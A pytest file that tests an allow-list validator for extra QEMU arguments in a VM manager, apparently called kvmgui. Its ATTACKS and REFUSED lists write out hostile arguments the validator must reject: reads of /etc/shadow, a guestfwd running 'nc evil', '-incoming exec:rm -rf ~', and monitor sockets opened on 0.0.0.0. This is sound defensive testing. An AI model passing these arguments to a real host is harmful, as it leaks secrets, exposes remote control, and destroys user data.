"""Expert extra arguments: what may be added to a VM's command line and what may not."""

from __future__ import annotations

import pytest
from hypothesis import given, strategies as st

from kvmgui.core.argv_extra import (
    ALLOWED_FLAGS,
    ALLOWED_OPTIONS,
    FORBIDDEN,
    NO_VALUE,
    extra_args_problems,
)
from kvmgui.core.argv_opts import opts, parse_opts

ALLOWED = [
    [],
    ["-no-reboot"],
    ["-device", "virtio-rng-pci"],
    ["-device", "virtio-keyboard-pci,id=kbd1", "-boot", "menu=on"],
    ["-rtc", "base=utc,driftfix=slew"],
    ["-rtc", "base=localtime,clock=host"],
    ["-netdev", "user,id=n1,restrict=on", "-device", "e1000,netdev=n1,mac=52:54:00:12:34:56"],
    ["-nic", "user,model=virtio-net-pci,net=10.0.3.0/24"],
    ["-object", "rng-random,id=rng1", "-device", "virtio-rng-pci,rng=rng1"],
    ["-global", "ICH9-LPC.disable_s3=1"],
    ["-global", "driver=PIIX4_PM,property=disable_s4,value=1"],
    ["-snapshot", "-no-shutdown"],
    ["--device", "virtio-rng-pci"],
    ["-cpu", "host,+vmx,-hypervisor,kvm=off,hv_relaxed"],
    ["-cpu", "Skylake-Client-v3"],
    ["-smp", "4,sockets=1,cores=2,threads=2"],
    ["-m", "4G"],
    ["-machine", "q35,smm=on,vmport=off"],
    ["-boot", "menu=on,splash-time=5000"],
    ["-no-hpet", "-k", "fr", "-usb", "-usbdevice", "tablet", "-vga", "std"],
    ["-smbios", "type=1,manufacturer=ACME,, Inc.,product=Box 5/7,serial=123"],
    ["-device", "intel-hda", "-device", "hda-duplex", "-device", "AC97"],
    ["-device", "usb-kbd,bus=xhci.0,port=2", "-device", "usb-mouse"],
    ["-device", "i6300esb", "-watchdog-action", "reset", "-device", "pvpanic"],
    ["-device", "intel-iommu,intremap=on,caching-mode=on"],
    ["-device", "virtio-balloon-pci,id=balloon0,deflate-on-oom=on"],
    ["-fw_cfg", "name=opt/com.example/x,string=hello,, world"],
    ["-append", "-no-reboot"],  # a value may start with "-"
    ["-d", "guest_errors,unimp"],
]

# The attacks this allow-list was written against: every one of these was accepted by the
# deny-list it replaced.
ATTACKS = [
    (["-netdev", "user,id=x,guestfwd=tcp:10.0.2.100:1234-mon:tcp:0.0.0.0:47446,,server=on,,"
      "wait=off"], "guestfwd"),
    (["-netdev", "user,id=x,guestfwd=tcp:10.0.2.100:1234-tcp:0.0.0.0:4444,server=on"],
     "guestfwd"),
    (["-netdev", "user,id=x,guestfwd=tcp:10.0.2.100:1234-unix:/tmp/s"], "guestfwd"),
    (["-netdev", "user,id=x,guestfwd=tcp:10.0.2.100:1234-file:/home/u/.bashrc"], "guestfwd"),
    (["-nic", "user,guestfwd=tcp:10.0.2.100:1-mon:tcp:0.0.0.0:4,,server=on"], "guestfwd"),
    (["-net", "user,guestfwd=tcp:10.0.2.100:1-unix:/tmp/s"], "-net"),
    (["-D", "/home/u/.ssh/authorized_keys"], "-D"),
    (["-netdev", "user,id=n,tftp=/"], "tftp"),
    (["-netdev", "user,id=n,smb=/"], "smb"),
    (["-nic", "user,tftp=/,bootfile=x"], "tftp"),
    (["-fw_cfg", "name=opt/x,file=/etc/shadow"], "file"),
    (["-fw_cfg", "opt/x,file=/etc/shadow"], "file"),
    (["-fsdev", "local,id=f,path=/,security_model=none"], "-fsdev"),
    (["-virtfs", "local,path=/,mount_tag=h,security_model=none"], "-virtfs"),
    (["-object", "memory-backend-file,id=m,size=64M,mem-path=/home/u/x,share=on"],
     "memory-backend-file"),
    (["-object", '{"qom-type":"memory-backend-file","id":"m","mem-path":"/x"}'], "JSON"),
    (["-device", '{"driver":"usb-kbd","pcap":"/tmp/x"}'], "JSON"),
    (["-netdev", ' {"type":"stream","id":"s","server":true}'], "JSON"),
    (["-drive", "if=virtio,format=raw,file.driver=raw,file.file.filename=/etc/passwd"],
     "-drive"),
    (["-object", "rng-random,id=r,filename=/dev/sda"], "filename"),
    (["-device", "usb-kbd,pcap=/home/u/.bashrc"], "pcap"),
    (["-device", "usb-kbd,,pcap=/home/u/.bashrc"], "usb-kbd,,pcap"),
    (["-device", "e1000,romfile=/etc/shadow"], "romfile"),
    (["-device", "virtserialport,chardev=c0"], "virtserialport"),
    (["-device", "usb-serial,chardev=c0"], "usb-serial"),
    (["-device", "ivshmem-plain,memdev=m"], "ivshmem-plain"),
    (["-device", "vhost-user-fs-pci,chardev=c"], "vhost-user-fs-pci"),
    (["-device", "usb-kbd,driver=usb-serial"], "usb-kbd"),
    (["-device", "help"], "help"),
    (["-device", "usb-kbd,help"], "help"),
    (["-global", "usb-kbd.pcap=/tmp/x"], "pcap"),
    (["-global", "driver=e1000,property=romfile,value=/etc/shadow"], "romfile"),
    (["-global", "isa-serial.chardev=c0"], "isa-serial"),
    (["-smbios", "file=/etc/shadow"], "file"),
    (["-smbios", "type=11,path=/etc/shadow"], "path"),
    (["-boot", "menu=on,splash=/etc/shadow"], "splash"),
    (["-machine", "q35,kernel=/etc/shadow"], "kernel"),
    (["-machine", "q35,memory-backend=m"], "memory-backend"),
    (["-kernel", "/boot/vmlinuz"], "-kernel"),
    (["-bios", "/tmp/evil.bin"], "-bios"),
    (["-L", "/tmp"], "-L"),
    (["-audiodev", "wav,id=a,path=/home/u/x"], "-audiodev"),
    (["-machine", "q35,,usb=on"], "q35,,usb"),
    (["-cpu", "host,,x"], "host,,x"),
    (["-cpu=host"], "-cpu=host"),
    (["-rtc", "base=/etc/localtime"], "base"),
    (["-rotate", "90"], "-rotate"),
    (["-soundhw", "hda"], "Sound"),
    (["-mem-path", "/dev/shm"], "-mem-path"),
    (["-icount", "shift=1"], "-icount"),
    (["-d", "in_asm,exec"], "in_asm"),
    (["-nic", "user,model=usb-serial"], "usb-serial"),
]

REFUSED = [
    (["-qmp", "tcp:0.0.0.0:4444,server=on,wait=off"], "-qmp"),
    (["--qmp", "unix:/tmp/x,server=on"], "--qmp"),
    (["-monitor", "stdio"], "-monitor"),
    (["-mon", "chardev=c0"], "-mon"),
    (["-chardev", "socket,id=c0,port=4444,host=0.0.0.0,server=on"], "-chardev"),
    (["-serial", "tcp::4444,server=on"], "-serial"),
    (["-vnc", ":1"], "-vnc"),
    (["-spice", "port=5930"], "-spice"),
    (["-display", "vnc=:0"], "-display"),
    (["-nographic"], "-nographic"),
    (["-pidfile", "/tmp/other.pid"], "-pidfile"),
    (["-daemonize"], "-daemonize"),
    (["-runas", "nobody"], "-runas"),
    (["-run-with", "user=nobody"], "-run-with"),
    (["-incoming", "tcp:0:4444"], "-incoming"),
    (["-incoming", "exec:rm -rf ~"], "-incoming"),
    (["-gdb", "tcp::1234"], "-gdb"),
    (["-s"], "-s"),
    (["-S"], "-S"),
    (["-name", "other"], "-name"),
    (["-readconfig", "/tmp/evil.cfg"], "-readconfig"),
    (["-set", "chardev.c0.host=0.0.0.0"], "-set"),
    (["-plugin", "/tmp/evil.so"], "-plugin"),
    (["-tpmdev", "passthrough,id=t0,path=/dev/tpm0"], "-tpmdev"),
    (["-hdb", "/dev/sdb"], "-hdb"),
    (["-cdrom", "x.iso"], "-cdrom"),
    (["-version"], "-version"),
    (["-net", "socket,listen=:1234"], "-net"),
    (["-netdev", "stream,id=s,server=on,addr.type=inet,addr.host=0.0.0.0,addr.port=1"], "stream"),
    (["-netdev", "tap,id=t0"], "tap"),
    (["-nic", "bridge"], "bridge"),
    (["-netdev", "user,id=n1,hostfwd=tcp::2222-:22"], "hostfwd=tcp::2222-:22"),
    (["-nic", "user,hostfwd=tcp:0.0.0.0:2222-:22"], "0.0.0.0"),
    (["-netdev", "user,id=n,guestfwd=tcp:10.0.2.100:1-cmd:nc evil 1"], "guestfwd"),
    (["-drive", "file=disk.img,if=virtio"], "-drive"),
    (["-object", "x-vfio-user-server,id=v,socket.type=unix,socket.path=/tmp/s"], "-object"),
    (["-netdev", "user,id=n1,hostfwd=tcp:127.0.0.1:2222-:22"], "hostfwd"),
    (["-blockdev", "driver=file,filename=x.img,node-name=x"], "-blockdev"),
    (["-object", "rng-random,id=rng1,filename=/dev/urandom"], "filename"),
    (["disk.img"], "disk.img"),
    (["-device"], "missing its value"),
    ([""], "empty"),
    (["-append", "a\nb"], "control character"),
    (["-append", "console=ttyS0", "-qmp", "stdio"], "-qmp"),
]


@pytest.mark.parametrize(("args", "mentioned"), ATTACKS)
def test_attacks_are_refused_with_one_sentence(args: list[str], mentioned: str) -> None:
    problems = extra_args_problems(args)
    assert len(problems) == 1, problems
    sentence = problems[0]
    assert mentioned in sentence
    assert sentence.startswith("The extra argument ") and sentence.endswith(".")
    assert "kvmgui allows" in sentence or "JSON" in sentence


@pytest.mark.parametrize("args", ALLOWED)
def test_allowed(args: list[str]) -> None:
    assert extra_args_problems(args) == []


@pytest.mark.parametrize(("args", "mentioned"), REFUSED)
def test_refused_with_one_sentence(args: list[str], mentioned: str) -> None:
    problems = extra_args_problems(args)
    assert len(problems) == 1, problems
    sentence = problems[0]
    assert mentioned in sentence
    assert sentence.endswith(".") and sentence[0].isupper()


def test_a_forbidden_option_hidden_as_a_value_is_still_caught() -> None:
    # Even if "-append" were wrongly thought to take no value, "-qmp" is refused.
    assert extra_args_problems(["-append", "-qmp"])


def test_every_forbidden_option_is_refused() -> None:
    for name in FORBIDDEN:
        args = [f"-{name}"] if name in NO_VALUE else [f"-{name}", "x"]
        assert extra_args_problems(args), name


_OPTION_TOKENS = st.sampled_from(
    ["-qmp", "-monitor", "-chardev", "-vnc", "-device", "-append", "-no-reboot", "-netdev",
     "-S", "--qmp", "-drive", "-hda", "-serial"]
)
_TOKENS = st.one_of(_OPTION_TOKENS, st.text(max_size=30))


@given(st.lists(_TOKENS, max_size=8))
def test_no_exposing_option_ever_passes(args: list[str]) -> None:
    problems = extra_args_problems(args)
    if not problems:
        for token in args:
            if token.startswith("-"):
                # QEMU's own reading: one leading dash, or two.
                name = token[2:] if token.startswith("--") else token[1:]
                assert name not in FORBIDDEN, args


_ANY_OPTION = st.one_of(
    _OPTION_TOKENS,
    st.sampled_from(sorted(ALLOWED_OPTIONS) + sorted(ALLOWED_FLAGS)).map(lambda n: f"-{n}"),
    st.from_regex(r"-{1,2}[a-zA-Z_-]{1,12}", fullmatch=True),
)
_VALUES = st.one_of(
    st.sampled_from(["user,id=n", "usb-kbd", "usb-kbd,pcap=/x", "host", "menu=on",
                     "rng-random,id=r,filename=/dev/sda", "{}", "a,,b=/c", "q35,kernel=/x"]),
    st.text(max_size=20),
)


@given(st.lists(st.one_of(_ANY_OPTION, _VALUES), max_size=8))
def test_only_listed_options_ever_pass(args: list[str]) -> None:
    """Whatever the mix, a list that passes holds only allowed options, read as QEMU reads
    them (an allowed option's value is the next token), and no value names a path."""
    if extra_args_problems(args):
        return
    i = 0
    while i < len(args):
        name = args[i][2:] if args[i].startswith("--") else args[i][1:]
        assert args[i].startswith("-") and (name in ALLOWED_FLAGS or name in ALLOWED_OPTIONS)
        if name in ALLOWED_OPTIONS:
            value = args[i + 1]
            free_text = ("append", "smbios", "fw_cfg", "nic", "netdev")
            assert name in free_text or ("=/" not in value and not value.startswith("/"))
            i += 2
        else:
            i += 1


_KEYS = st.from_regex(r"[a-z][a-z0-9_.-]{0,8}", fullmatch=True)


@given(st.from_regex(r"[a-z][a-z0-9-]{0,10}", fullmatch=True),
       st.lists(st.tuples(_KEYS, st.text(max_size=12).filter(lambda v: "\0" not in v)),
                max_size=4))
def test_values_are_read_back_as_written(head: str, pairs: list[tuple[str, str]]) -> None:
    """What kvmgui writes with opts() (commas doubled) parses back to the same pairs, so the
    checks see exactly the properties QEMU will see."""
    text = opts(head, *pairs)
    assert parse_opts(text, "driver") == [("driver", head), *pairs]
